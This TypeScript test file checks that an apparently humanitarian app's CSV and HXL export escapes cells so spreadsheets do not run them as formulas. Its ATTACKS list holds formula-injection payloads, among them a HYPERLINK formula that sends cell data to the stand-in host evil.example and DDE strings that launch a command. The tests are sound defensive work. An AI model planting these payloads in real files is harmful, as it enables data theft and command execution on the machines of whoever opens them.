import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../../electron/core/figures/csv.js';
import { hxlCsv } from '../../../electron/core/figures/hxl.js';
import { ARMENIAN_FAMILY, tempStation, type TempStation } from '../../helpers/print.js';

/**
 * Cells a spreadsheet would run as formulas, whatever separator it assumes. The reader below does what LibreOffice
 * and Excel do on opening a CSV: split on the locale's separator outside quotes, undo the quoting, and treat a cell
 * that starts with a formula starter as a formula (one that starts with an apostrophe is text).
 */

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'Foo;=HYPERLINK("http://evil.example/?"&A1;"x")',
  'Foo;=1+1',
  "Goris,+cmd|' /C calc'!A0",
  "Martakert;@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'a\t=1+1',
  'Stepanakert; =1+1',
  'x;\uFF1D1+1',
  ' =1+1',
  'x"; =1+1',
];

function spreadsheetCells(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

const runsAsFormula = (cell: string): boolean => /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('csvCell', () => {
  it.each(ATTACKS)('leaves %j inert under `,`, `;` and tab separators', (attack) => {
    const line = csvLine(['Goris', attack, 12]);
    for (const separator of [',', ';', '\t']) {
      for (const cell of spreadsheetCells(line, separator)) expect(runsAsFormula(cell), `${separator} ${cell}`).toBe(false);
    }
    // Read with our own separator, the text comes back whole, marked as text by one apostrophe.
    expect(spreadsheetCells(line, ',')).toEqual(['Goris', `'${attack}`, '12']);
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(csvLine(['Մարտակերտ', 'Goris-2', 'Степанакерт', 0, 42, '#affected+ind+f', 'Female 0-4'])).toBe(
      'Մարտակերտ,Goris-2,Степанакерт,0,42,#affected+ind+f,Female 0-4',
    );
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('never yields a live formula cell for any text, under any of the three separators', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '"', ' ', 'a', '1', '\r', '\n', '\uFF1D') }), {
          minLength: 1,
          maxLength: 4,
        }),
        (cells) => {
          const line = csvLine(cells);
          // A quoted line break stays inside its cell; read the line as a spreadsheet reads the whole file.
          for (const separator of [',', ';', '\t']) {
            for (const cell of spreadsheetCells(line, separator)) if (runsAsFormula(cell)) return false;
          }
          return true;
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('the HXL export', () => {
  let station: TempStation;
  beforeEach(() => {
    station = tempStation();
  });
  afterEach(() => station.dispose());

  it('writes a typed place name that carries a formula as inert text, in a comma and a semicolon locale', () => {
    station.register({ ...ARMENIAN_FAMILY, originSettlement: 'Foo;=HYPERLINK(A1)', originDistrict: 'Bar;@SUM(1)' });
    const { csv } = hxlCsv(station.core.ctx);
    const lines = csv.split('\r\n').filter(Boolean);
    for (const separator of [',', ';']) {
      for (const line of lines) {
        for (const cell of spreadsheetCells(line, separator)) expect(runsAsFormula(cell), cell).toBe(false);
      }
    }
    const row = spreadsheetCells(lines[2]!, ',');
    expect(row).toContain("'Foo;=HYPERLINK(A1)");
    expect(row).toContain("'Bar;@SUM(1)");
  });
});
